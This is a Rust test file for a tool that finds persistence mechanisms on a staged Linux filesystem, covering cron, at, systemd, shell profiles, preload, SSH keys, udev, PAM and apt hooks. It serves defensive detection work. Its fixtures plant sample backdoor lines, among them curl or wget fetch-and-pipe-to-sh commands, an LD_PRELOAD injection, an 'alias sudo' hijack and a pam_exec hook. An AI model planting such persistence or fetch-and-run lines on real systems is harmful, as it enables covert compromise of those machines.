//! Planted files and what must come out.
use super::*;
use assize_domain::entity::{ScheduledTask, Service, ServiceScope, TaskKind};
use std::{fs, os::unix::fs::PermissionsExt, path::Path};
use tempfile::TempDir;

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/bash\n";

struct Device {
    folder: TempDir,
}

impl Device {
    /// With the programs that the planted commands name, and the links of a merged `/usr`.
    fn new() -> Self {
        let device = Self { folder: tempfile::tempdir().unwrap() };
        device.put("/etc/passwd", PASSWD);
        device.link("/bin", "usr/bin");
        device.link("/lib", "usr/lib");
        for program in ["sh", "bash", "env", "python3", "find", "curl", "cat", "timeout", "php"] {
            device.program(&format!("/usr/bin/{program}"));
        }
        for program in ["/tmp/.x/bad", "/usr/local/sbin/backup", "/home/ann/.hidden/helper", "/tmp/second"] {
            device.program(program);
        }
        device
    }

    fn root(&self) -> Root {
        Root::staged(self.folder.path())
    }

    fn real(&self, path: &str) -> std::path::PathBuf {
        self.folder.path().join(path.trim_start_matches('/'))
    }

    fn put(&self, path: &str, text: impl AsRef<[u8]>) {
        let real = self.real(path);
        fs::create_dir_all(real.parent().unwrap()).unwrap();
        fs::write(real, text).unwrap();
    }

    fn program(&self, path: &str) {
        self.put(path, "program");
        fs::set_permissions(self.real(path), fs::Permissions::from_mode(0o755)).unwrap();
    }

    fn link(&self, path: &str, to: impl AsRef<Path>) {
        let real = self.real(path);
        fs::create_dir_all(real.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(to, real).unwrap();
    }

    fn tasks(&self) -> Vec<(ScheduledTask, Started)> {
        let look = startup(&self.root());
        assert_eq!(look.faults, []);
        look.items
            .into_iter()
            .filter_map(|i| {
                let Entity::ScheduledTask { scheduled_task } = &i.entity else { return None };
                Some((scheduled_task.clone(), i))
            })
            .collect()
    }

    fn services(&self) -> Vec<(Service, Started)> {
        startup(&self.root())
            .items
            .into_iter()
            .filter_map(|i| {
                let Entity::Service { service } = &i.entity else { return None };
                Some((service.clone(), i))
            })
            .collect()
    }

    fn startup_items(&self) -> Vec<(StartupItem, Started)> {
        startup(&self.root())
            .items
            .into_iter()
            .filter_map(|i| {
                let Entity::StartupItem { startup_item } = &i.entity else { return None };
                Some((startup_item.clone(), i))
            })
            .collect()
    }
}

fn paths(started: &Started) -> Vec<&str> {
    started.starts.iter().map(DevicePath::as_str).collect()
}

fn program(started: &Started) -> Option<&str> {
    started.program.as_ref().map(DevicePath::as_str)
}

/// M63, M151: the line is kept exactly, so that exactly it can be compared and taken out.
#[test]
fn each_task_line_of_a_system_crontab_is_one_task_with_its_exact_bytes() {
    let device = Device::new();
    let text = "SHELL=/bin/sh\n# comment\n\n*/5 * * * * root  /tmp/.x/bad 900 >/dev/null 2>&1\n@reboot ann /tmp/.x/bad\n*/5 * * * * root  /tmp/.x/bad 900 >/dev/null 2>&1\n";
    device.put("/etc/cron.d/job", text);
    let tasks = device.tasks();
    assert_eq!(tasks.len(), 3);
    let (first, started) = &tasks[0];
    let line = "*/5 * * * * root  /tmp/.x/bad 900 >/dev/null 2>&1";
    assert_eq!(first.kind, TaskKind::Cron);
    assert_eq!((first.schedule.as_str(), first.user.as_str()), ("*/5 * * * *", "root"));
    assert_eq!(first.command, "/tmp/.x/bad 900 >/dev/null 2>&1");
    assert_eq!(first.line.as_deref(), Some(line));
    assert_eq!(first.digest, digest(line.as_bytes()));
    assert_eq!(paths(started), ["/tmp/.x/bad"]);
    assert_eq!(program(started), Some("/tmp/.x/bad"));
    assert_eq!((tasks[1].0.schedule.as_str(), tasks[1].0.user.as_str()), ("@reboot", "ann"));
    let occurrences: Vec<u32> = tasks.iter().map(|(t, _)| t.occurrence).collect();
    assert_eq!(occurrences, [0, 0, 1], "the second of two equal lines is told apart");
}

#[test]
fn a_users_crontab_has_no_user_column_and_only_its_lines_are_tasks() {
    let device = Device::new();
    let bad =
        "*/10 * * * * (curl -fsSL http://127.0.0.1:9/i.sh || wget -q -O- http://127.0.0.1:9/i.sh) | sh >/dev/null 2>&1";
    device.put(
        "/var/spool/cron/crontabs/www-data",
        format!("15 4 * * * /usr/bin/find /var/www -delete\n{bad}\nnonsense\n"),
    );
    let tasks = device.tasks();
    assert_eq!(tasks.len(), 2);
    assert_eq!(tasks[1].0.line.as_deref(), Some(bad));
    assert_eq!(tasks[1].0.user, "www-data");
    assert_eq!(paths(&tasks[1].1), ["/usr/bin/curl", "/usr/bin/sh"]);
}

#[test]
fn what_a_command_really_runs_is_found_behind_wrappers_and_interpreters() {
    let device = Device::new();
    device.put("/srv/job.py", "print()");
    let table: [(&str, Option<&str>, &[&str]); 14] = [
        ("/tmp/.x/bad", Some("/tmp/.x/bad"), &["/tmp/.x/bad"]),
        ("test -x /tmp/second && /tmp/.x/bad", Some("/tmp/.x/bad"), &["/tmp/.x/bad"]),
        ("sh -c '/tmp/.x/bad 900 &'", Some("/tmp/.x/bad"), &["/usr/bin/sh", "/tmp/.x/bad"]),
        (
            "env A=b timeout -k 5 10 /tmp/.x/bad",
            Some("/tmp/.x/bad"),
            &["/usr/bin/env", "/usr/bin/timeout", "/tmp/.x/bad"],
        ),
        ("python3 -u /srv/job.py x", Some("/srv/job.py"), &["/usr/bin/python3", "/srv/job.py"]),
        ("python3 -m http.server", Some("/usr/bin/python3"), &["/usr/bin/python3"]),
        ("cd /tmp; ./.x/bad", Some("/.x/bad"), &[]),
        ("A=1 B='c d' nohup setsid /tmp/.x/bad </dev/null &>/dev/null &", Some("/tmp/.x/bad"), &["/tmp/.x/bad"]),
        ("/tmp/gone --flag", Some("/tmp/gone"), &[]),
        ("nowhere --flag", None, &[]),
        ("LD_PRELOAD=/tmp/second /usr/bin/cat", Some("/usr/bin/cat"), &["/tmp/second", "/usr/bin/cat"]),
        ("echo $(/tmp/.x/bad)", None, &["/tmp/.x/bad"]),
        ("find / -name x -exec /tmp/.x/bad {} \\;", Some("/usr/bin/find"), &["/usr/bin/find", "/tmp/.x/bad"]),
        ("\"$DIR/x\" || /bin/../tmp/.x/bad", Some("/tmp/.x/bad"), &["/tmp/.x/bad"]),
    ];
    for (command, expected, starts) in table {
        device.put("/etc/crontab", format!("0 0 * * * root {command}\n"));
        let tasks = device.tasks();
        assert_eq!(tasks.len(), 1, "{command}");
        assert_eq!(program(&tasks[0].1), expected, "{command}");
        assert_eq!(paths(&tasks[0].1), starts, "{command}");
    }
}

#[test]
fn files_of_cron_folders_anacron_and_at_are_tasks_too() {
    let device = Device::new();
    device.put("/etc/cron.weekly/rotate", "#!/bin/sh\nexec /usr/local/sbin/backup\n");
    fs::set_permissions(device.real("/etc/cron.weekly/rotate"), fs::Permissions::from_mode(0o755)).unwrap();
    device.put("/etc/cron.daily/with.dot", "#!/bin/sh\n");
    device.put("/etc/anacrontab", "START_HOURS_RANGE=3-22\n7 25 weekly.job nice run-parts /etc/cron.weekly\n");
    let at = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ann 0\numask 22\nHOME=/home/ann; export HOME\ncd /home/ann || {\n\t echo 'no' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n/tmp/.x/bad 900\n\nmarcinDELIMITER1\n";
    device.put("/var/spool/cron/atjobs/a0000101b4d3c2", at);
    device.put("/var/spool/cron/atjobs/.SEQ", "1");
    let tasks = device.tasks();
    let names: Vec<&str> = tasks.iter().map(|(t, _)| t.name.as_str()).collect();
    assert_eq!(names, ["with.dot", "rotate", "weekly.job", "a0000101b4d3c2"]);
    let (dotted, rotate, at_job) = (&tasks[0], &tasks[1], &tasks[3]);
    assert!(!dotted.0.enabled, "run-parts passes over a name with a dot");
    assert!(rotate.0.enabled);
    assert_eq!((rotate.0.line.as_deref(), rotate.0.schedule.as_str()), (None, "weekly"));
    assert_eq!(rotate.0.digest, digest(b"#!/bin/sh\nexec /usr/local/sbin/backup\n"));
    assert_eq!(paths(&rotate.1), ["/etc/cron.weekly/rotate", "/usr/local/sbin/backup"]);
    assert_eq!(at_job.0.kind, TaskKind::At);
    assert_eq!(at_job.0.user, "ann");
    assert_eq!(at_job.0.command, "/tmp/.x/bad 900");
    assert_eq!(at_job.0.schedule, Stamp(0x01b4_d3c2 * 60_000).to_string());
    assert_eq!(paths(&at_job.1), ["/tmp/.x/bad"]);
}

use assize_domain::time::Stamp;

#[test]
fn a_service_is_enabled_by_its_link_and_tells_all_it_runs() {
    let device = Device::new();
    device.put(
        "/etc/systemd/system/a.service",
        "[Service]\nExecStart=\nExecStart=-/usr/bin/env \\\n  /tmp/.x/bad 900\nExecStartPre=+/tmp/second\n",
    );
    device.link("/etc/systemd/system/multi-user.target.wants/a.service", "../a.service");
    device.put("/usr/lib/systemd/system/b@.service", "[Service]\nExecStart=/usr/bin/cat %i %h\n");
    device.link("/etc/systemd/system/x.target.requires/b@one.service", "/usr/lib/systemd/system/b@.service");
    device.link("/etc/systemd/system/masked.service", "/dev/null");
    device.put("/usr/lib/systemd/system/masked.service", "[Service]\nExecStart=/tmp/.x/bad\n");
    device.link("/etc/systemd/system/alias.service", "a.service");
    let services = device.services();
    let told: Vec<(&str, &str, bool)> =
        services.iter().map(|(s, _)| (s.name.as_str(), s.path.as_str(), s.enabled)).collect();
    assert_eq!(
        told,
        [
            ("a.service", "/etc/systemd/system/a.service", true),
            ("b@.service", "/usr/lib/systemd/system/b@.service", true),
        ]
    );
    let (a, started) = &services[0];
    assert_eq!(a.scope, ServiceScope::System);
    assert!(a.exec.starts_with("-/usr/bin/env") && a.exec.ends_with("; +/tmp/second"), "{}", a.exec);
    assert_eq!(program(started), Some("/tmp/.x/bad"));
    assert_eq!(paths(started), ["/usr/bin/env", "/tmp/.x/bad", "/tmp/second"]);
}

#[test]
fn a_users_unit_belongs_to_the_user_and_knows_the_home() {
    let device = Device::new();
    device.put("/home/ann/.config/systemd/user/dbus-session.service", "[Service]\nExecStart=%h/.hidden/helper 900\n");
    device.link("/home/ann/.config/systemd/user/default.target.wants/dbus-session.service", "../dbus-session.service");
    let services = device.services();
    assert_eq!(services.len(), 1);
    let (service, started) = &services[0];
    assert_eq!(service.scope, ServiceScope::User);
    assert!(service.enabled);
    assert_eq!(paths(started), ["/home/ann/.hidden/helper"]);
}

#[test]
fn a_drop_in_that_adds_a_command_is_told_beside_its_unit() {
    let device = Device::new();
    device.put("/usr/lib/systemd/system/good.service", "[Service]\nExecStart=/usr/bin/cat\n");
    device.put("/etc/systemd/system/good.service.d/50-x.conf", "[Service]\nExecStartPost=/tmp/.x/bad\n");
    device.put("/home/ann/.config/systemd/user/elsewhere.service.d/x.conf", "[Service]\nExecStartPre=/tmp/second\n");
    let services = device.services();
    let told: Vec<(&str, &str, Vec<&str>)> =
        services.iter().map(|(s, started)| (s.name.as_str(), started.defined_in.as_str(), paths(started))).collect();
    let drop_in = "/etc/systemd/system/good.service.d/50-x.conf";
    let elsewhere = "/home/ann/.config/systemd/user/elsewhere.service.d/x.conf";
    assert_eq!(
        told,
        [
            ("good.service", "/usr/lib/systemd/system/good.service", vec!["/usr/bin/cat"]),
            ("good.service", drop_in, vec!["/tmp/.x/bad"]),
            ("elsewhere.service", elsewhere, vec!["/tmp/second"]),
        ]
    );
    assert_eq!(services[1].0.path.as_str(), drop_in, "the answer to it is about the addition alone");
}

#[test]
fn a_timer_is_a_task_with_the_command_of_its_service() {
    let device = Device::new();
    device.put(
        "/usr/lib/systemd/system/t.timer",
        "[Timer]\nOnCalendar=daily\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n",
    );
    device.put("/usr/lib/systemd/system/t.service", "[Service]\nUser=ann\nExecStart=/tmp/.x/bad\n");
    device.put("/etc/systemd/system/other.timer", "[Timer]\nUnit=t.service\nOnUnitActiveSec=1h\n");
    device.link("/etc/systemd/system/timers.target.wants/t.timer", "/usr/lib/systemd/system/t.timer");
    let tasks = device.tasks();
    let told: Vec<(&str, &str, &str, &str, bool)> = tasks
        .iter()
        .map(|(t, _)| (t.name.as_str(), t.command.as_str(), t.schedule.as_str(), t.user.as_str(), t.enabled))
        .collect();
    assert_eq!(
        told,
        [
            ("other.timer", "/tmp/.x/bad", "OnUnitActiveSec=1h", "ann", false),
            ("t.timer", "/tmp/.x/bad", "OnCalendar=daily; OnBootSec=5min", "ann", true),
        ]
    );
    assert!(tasks.iter().all(|(t, s)| t.kind == TaskKind::SystemdTimer && paths(s) == ["/tmp/.x/bad"]));
}

#[test]
fn only_profile_lines_that_run_something_are_told() {
    let device = Device::new();
    device.put(
        "/etc/profile.d/zz.sh",
        "# locale\nif [ -n \"$X\" ]; then\n  LANG=C\nfi\nalias ll='ls -l'\n(/tmp/.x/bad 900 >/dev/null 2>&1 &)\nexport LD_PRELOAD=/tmp/second\n",
    );
    device.put(
        "/home/ann/.bashrc",
        "case $- in\n*i*) ;;\nesac\nalias sudo=~/.hidden/helper\nwget -qO- http://192.0.2.1/x | sh\n",
    );
    let items = device.startup_items();
    let told: Vec<(&str, &str, Vec<&str>)> =
        items.iter().map(|(i, s)| (i.user.as_str(), i.command.as_str(), paths(s))).collect();
    assert_eq!(
        told,
        [
            ("root", "(/tmp/.x/bad 900 >/dev/null 2>&1 &)", vec!["/tmp/.x/bad"]),
            ("root", "export LD_PRELOAD=/tmp/second", vec!["/tmp/second"]),
            ("ann", "alias sudo=~/.hidden/helper", vec!["/home/ann/.hidden/helper"]),
            ("ann", "wget -qO- http://192.0.2.1/x | sh", vec!["/usr/bin/sh"]),
        ]
    );
    assert!(items.iter().all(|(i, _)| i.kind == StartupKind::ShellProfile && i.line.is_some()));
}

#[test]
fn every_other_startup_place_is_looked_at() {
    let device = Device::new();
    device.put(
        "/home/ann/.config/autostart/a.desktop",
        "[Desktop Entry]\nName=A\nExec=/home/ann/.hidden/helper 900 %U\n[Other]\nExec=/tmp/second\n",
    );
    device.put("/etc/xdg/autostart/off.desktop", "[Desktop Entry]\nExec=/tmp/second\nHidden=true\n");
    device.put("/etc/ld.so.preload", "/tmp/second\n");
    device.put(
        "/home/ann/.ssh/authorized_keys",
        "# mine\nssh-ed25519 AAAAC3 ann@laptop\ncommand=\"/tmp/.x/bad \\\"a\\\"\",no-pty ssh-rsa AAAAB3 stranger\n",
    );
    device.put(
        "/etc/udev/rules.d/99.rules",
        "SUBSYSTEM==\"usb\", MODE=\"0660\"\nACTION==\"add\", RUN+=\"/bin/sh -c '/tmp/.x/bad 900 &'\"\n",
    );
    device.put("/etc/modules-load.d/x.conf", "# list\nsnd-evil\n");
    device.put("/usr/lib/modules/6.1.0/extra/snd_evil.ko.xz", "module");
    device.put("/etc/modprobe.d/x.conf", "blacklist a\ninstall usb-storage /tmp/second\n");
    device.put("/etc/rc.local", "#!/bin/sh\n/tmp/.x/bad &\nexit 0\n");
    device.put("/etc/init.d/svc", "#!/bin/sh\n");
    let items = device.startup_items();
    let told: Vec<(StartupKind, &str, &str, Vec<&str>)> =
        items.iter().map(|(i, s)| (i.kind, i.path.as_str(), i.command.as_str(), paths(s))).collect();
    use StartupKind::*;
    assert_eq!(
        told,
        [
            (
                Autostart,
                "/home/ann/.config/autostart/a.desktop",
                "/home/ann/.hidden/helper 900 %U",
                vec!["/home/ann/.hidden/helper"]
            ),
            (Preload, "/etc/ld.so.preload", "/tmp/second", vec!["/tmp/second"]),
            (AuthorizedKey, "/home/ann/.ssh/authorized_keys", "ssh-ed25519 ann@laptop", vec![]),
            (AuthorizedKey, "/home/ann/.ssh/authorized_keys", "ssh-rsa stranger", vec!["/tmp/.x/bad"]),
            (
                UdevRule,
                "/etc/udev/rules.d/99.rules",
                "/bin/sh -c '/tmp/.x/bad 900 &'",
                vec!["/usr/bin/sh", "/tmp/.x/bad"]
            ),
            (ModuleList, "/etc/modules-load.d/x.conf", "snd-evil", vec!["/usr/lib/modules/6.1.0/extra/snd_evil.ko.xz"]),
            (ModuleList, "/etc/modprobe.d/x.conf", "/tmp/second", vec!["/tmp/second"]),
            (InitScript, "/etc/rc.local", "/etc/rc.local", vec!["/etc/rc.local", "/tmp/.x/bad"]),
            (InitScript, "/etc/init.d/svc", "/etc/init.d/svc", vec!["/etc/init.d/svc"]),
        ]
    );
}

#[test]
fn what_other_parts_of_the_system_run_is_seen_with_what_it_starts() {
    let device = Device::new();
    device.put("/etc/update-motd.d/05-x", "#!/bin/sh\n/tmp/.x/bad &\n");
    device.put("/etc/apt/apt.conf.d/a", "Dir \"/\";\nDPkg::Post-Invoke {\"/tmp/second || true\";};\n");
    device.put("/etc/apt/apt.conf.d/b", "DPkg\n{\nPost-Invoke\n{ \"/tmp/second\"; };\n};\n");
    device.put(
        "/etc/pam.d/sshd",
        "@include x\nauth optional pam_exec.so quiet /tmp/.x/bad now\nauth required /tmp/second.so\n",
    );
    device.put("/etc/logrotate.d/x", "/l {\n postrotate\n  /tmp/second\n endscript\n}\n");
    device.put("/etc/inittab", "# x:1:once:/a\nx:2:respawn:/tmp/second 9\n");
    let items = device.startup_items();
    let told: Vec<(&str, Option<&str>, Vec<&str>)> =
        items.iter().map(|(i, s)| (i.path.as_str(), i.line.as_deref(), paths(s))).collect();
    assert!(items.iter().all(|(i, _)| i.kind == StartupKind::SystemHook));
    assert_eq!(
        told,
        [
            ("/etc/update-motd.d/05-x", None, vec!["/etc/update-motd.d/05-x", "/tmp/.x/bad"]),
            ("/etc/apt/apt.conf.d/a", Some("DPkg::Post-Invoke {\"/tmp/second || true\";};"), vec!["/tmp/second"]),
            ("/etc/apt/apt.conf.d/b", None, vec!["/tmp/second"]),
            ("/etc/pam.d/sshd", Some("auth optional pam_exec.so quiet /tmp/.x/bad now"), vec!["/tmp/.x/bad"]),
            ("/etc/pam.d/sshd", Some("auth required /tmp/second.so"), vec![]),
            ("/etc/logrotate.d/x", None, vec!["/tmp/second"]),
            ("/etc/inittab", Some("x:2:respawn:/tmp/second 9"), vec!["/tmp/second"]),
        ]
    );
}

#[test]
fn a_profile_line_that_is_a_part_of_something_longer_is_told_as_its_file() {
    let device = Device::new();
    device.put("/etc/profile.d/a.sh", "if [ -x /tmp/x ]; then\n  /tmp/.x/bad 1\nfi\n");
    device.put("/etc/profile.d/b.sh", "/tmp/.x/bad \\\n  900\n");
    device.put("/etc/profile.d/c.sh", "cat >/dev/null <<E\nE\nif /tmp/.x/bad; then\n :\nfi\n");
    device.put("/home/ann/dotfiles/profile", "/tmp/.x/bad 2\n");
    device.link("/home/ann/.profile", "dotfiles/profile");
    let items = device.startup_items();
    let told: Vec<(&str, bool)> = items.iter().map(|(i, _)| (i.path.as_str(), i.line.is_some())).collect();
    assert!(told.contains(&("/etc/profile.d/a.sh", true)), "{told:?}");
    assert!(told.contains(&("/etc/profile.d/b.sh", false)), "{told:?}");
    assert!(told.contains(&("/etc/profile.d/c.sh", false)), "{told:?}");
    assert!(told.contains(&("/home/ann/dotfiles/profile", true)), "the file that a change would change: {told:?}");
}

#[test]
fn a_module_on_a_list_is_a_driver_with_its_file_and_its_list() {
    let device = Device::new();
    device.put("/etc/modules-load.d/b.conf", "snd-evil\nnot-there\n");
    device.put("/etc/modules", "# kernel modules\nsnd_evil index=1\n");
    device.put("/usr/lib/modules/6.1.0/extra/snd-evil.ko.zst", "module");
    let look = startup(&device.root());
    let text = |p: &Option<DevicePath>| p.as_ref().map_or("-", DevicePath::as_str).to_owned();
    let mut told = Vec::new();
    for started in &look.items {
        if let Entity::Driver { driver: d } = &started.entity {
            told.push((d.name.clone(), text(&d.path), text(&d.config_path), paths(started).join(" ")));
        }
    }
    let file = "/usr/lib/modules/6.1.0/extra/snd-evil.ko.zst";
    assert_eq!(
        told,
        [
            ("not_there".to_owned(), "-".to_owned(), "/etc/modules-load.d/b.conf".to_owned(), String::new()),
            ("snd_evil".to_owned(), file.to_owned(), "/etc/modules".to_owned(), file.to_owned()),
        ]
    );
}

#[test]
fn hostile_names_and_bytes_come_through_whole() {
    let device = Device::new();
    let name = std::ffi::OsString::from_vec(b"evil\n\xff".to_vec());
    let line = b"0 0 * * * root /tmp/\xfe\x80 x";
    fs::create_dir_all(device.real("/etc/cron.d")).unwrap();
    fs::write(device.real("/etc/cron.d").join(name), [line.as_slice(), b"\n"].concat()).unwrap();
    let tasks = device.tasks();
    assert_eq!(tasks.len(), 1);
    assert_eq!(tasks[0].0.path.to_bytes(), b"/etc/cron.d/evil\n\xff");
    let kept = DevicePath::from_bytes(line);
    assert_eq!(tasks[0].0.line.as_deref(), Some(kept.as_str()));
    assert_eq!(tasks[0].0.digest, digest(line));
    assert_eq!(tasks[0].1.program, Some(DevicePath::from_bytes(b"/tmp/\xfe\x80")));
}

#[test]
fn a_link_of_the_device_never_leads_out_of_it() {
    let device = Device::new();
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("tab"), "0 0 * * * root /tmp/.x/bad\n").unwrap();
    device.link("/etc/crontab", outside.path().join("tab"));
    device.link("/etc/cron.d/up", "../../../../../../../../../../etc/passwd");
    assert_eq!(device.tasks(), []);
}

#[test]
fn what_cannot_be_read_is_told_and_the_rest_is_seen() {
    let device = Device::new();
    device.put("/etc/cron.d/good", "0 0 * * * root /tmp/.x/bad\n");
    device.link("/etc/cron.d/circle", "circle");
    fs::create_dir(device.real("/etc/crontab")).unwrap();
    let look = startup(&device.root());
    let told: Vec<&str> = look.faults.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(told, ["/etc/crontab", "/etc/cron.d/circle"]);
    assert_eq!(look.items.len(), 1);
    assert!(look.faults[1].text.contains("Nothing was changed"));
}

#[test]
fn a_file_that_this_account_may_not_read_is_told() {
    let device = Device::new();
    device.put("/var/spool/cron/crontabs/root", "0 0 * * * /tmp/.x/bad\n");
    fs::set_permissions(device.real("/var/spool/cron/crontabs/root"), fs::Permissions::from_mode(0o000)).unwrap();
    if rustix::process::geteuid().is_root() {
        eprintln!("skipped: root may read every file");
        return;
    }
    let look = startup(&device.root());
    assert_eq!(look.faults.len(), 1);
    assert!(look.faults[0].text.contains("this account may not read it"));
}
